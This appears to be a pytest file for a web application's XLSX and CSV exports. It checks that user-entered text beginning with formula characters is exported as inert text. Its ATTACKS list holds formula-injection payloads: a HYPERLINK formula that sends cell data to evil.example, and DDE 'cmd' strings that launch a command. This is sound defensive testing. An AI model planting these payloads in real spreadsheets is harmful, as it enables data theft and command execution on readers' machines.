"""Formula injection: what an agency writes is text in every sheet that goes out, whatever it begins with."""

from __future__ import annotations

import csv
from datetime import datetime
from io import BytesIO, StringIO

import openpyxl
import pytest
from sqlalchemy import Engine, update

from models import Agency, Plan, Task, UserRole
from models.session import writing
from tests.notifications import builders as b
from tests.web.conftest import People

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"mở")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("engine", ["sqlite"], indirect=True)
def test_no_cell_runs(people: People, engine: Engine, sample: int, attack: str) -> None:
    with writing(engine) as session:
        session.exec(update(Task).values(text=attack, product=attack))
        session.exec(update(Agency).values(short_name=attack))
        session.exec(update(Plan).values(title=attack))
    browser = people(UserRole.LEADER)
    book = openpyxl.load_workbook(BytesIO(browser.get("/exports/file?format=xlsx").content))
    seen = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                seen += isinstance(cell.value, str) and attack.strip() in cell.value
    assert seen
    text = browser.get("/exports/file?format=csv").content.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    cells = [cell for row in csv.reader(StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert any(attack.strip() in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r", "＝") and len(cell) > 1] == []
    assert [cell for cell in cells if cell.startswith("-") and len(cell) > 2] == []


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("engine", ["sqlite"], indirect=True)
def test_the_ledger_of_messages_runs_nothing(people: People, engine: Engine, now: datetime, attack: str) -> None:
    with writing(engine) as session:
        body = b.agency(session, attack)
        task = b.occurrence(session, b.task(session, b.plan(session, now)), body, now)
        b.message(session, b.contact(session, body, attack), now, [task], subject=attack, reason=attack)
    text = people(UserRole.LEADER).get("/messages/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    assert sum(attack in cell for cell in cells) >= 3
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")] == []
